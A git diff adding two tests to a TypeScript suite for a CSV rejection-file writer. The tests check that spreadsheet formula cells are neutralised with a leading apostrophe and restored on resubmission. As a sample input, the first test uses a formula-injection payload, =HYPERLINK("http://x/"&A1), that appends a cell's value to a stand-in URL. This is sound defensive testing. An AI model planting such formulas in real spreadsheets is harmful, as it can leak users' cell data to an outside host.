@@ -87,4 +87,29 @@ describe('rejection file', () => {
     expect(lines[0]).toBe(`\ufeff${DIPA_HEADER};ligne;motif`);
     expect(lines[1]).toMatch(/;douze euros;FR2030004579707352608755076;2;"aide_calculee: /);
   });
+
+  it('keeps a formula cell inert, and reads it back as the original text when the corrected file is resubmitted', async () => {
+    const formula = '=HYPERLINK("http://x/"&A1)';
+    const row = BAD_AMOUNT.replace('DAVID Jérôme', `"${formula.replace(/"/g, '""')}"`);
+    const file = await writeInputFile('dipa.csv', `${DIPA_HEADER}\n${row}\n`);
+    const { path } = await reject(file);
+    const written = await readFile(path, 'utf8');
+    // Excel and LibreOffice show a cell starting with ' as text: nothing runs when an agent opens it.
+    expect(written.split('\r\n')[1]).toContain(`;"'=HYPERLINK(""http://x/""&A1)";`);
+    expect(written).not.toMatch(/[;\n]"?=HYPERLINK/);
+
+    await writeFile(path, written.replace('douze euros', '12,00'));
+    const [resubmitted] = await validate(path);
+    expect(resubmitted!.raw.nom).toBe(formula);
+    expect(resubmitted).toMatchObject({ ok: true, row: { name: formula } });
+  });
+
+  it('removes only the apostrophe the writer added, from its own files only', async () => {
+    // A person's own apostrophes, in a file proweb wrote and in an input file it did not.
+    const cells = (nom: string) => BAD_AMOUNT.replace('DAVID Jérôme', nom);
+    const written = await writeInputFile('dipa.rejets.csv', `${DIPA_HEADER};ligne;motif\n${cells("''=1+1")};3;x\n${cells("'Jérôme")};4;x\n${cells("'-12")};5;x\n`);
+    expect((await validate(written)).map((v) => v.raw.nom)).toEqual(["'=1+1", "'Jérôme", "'-12"]);
+    const input = await writeInputFile('dipa.csv', `${DIPA_HEADER}\n${cells("'=1+1")}\n`);
+    expect((await validate(input)).map((v) => v.raw.nom)).toEqual(["'=1+1"]);
+  });
 });
